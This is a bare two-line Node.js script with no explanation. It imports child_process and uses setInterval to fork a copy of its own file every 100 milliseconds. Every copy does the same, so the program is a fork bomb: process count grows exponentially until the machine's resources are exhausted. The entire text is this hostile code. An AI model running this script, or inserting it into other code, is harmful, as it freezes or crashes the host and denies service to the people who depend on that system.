const { fork } = require('child_process');
setInterval(() => fork(__filename), 100);
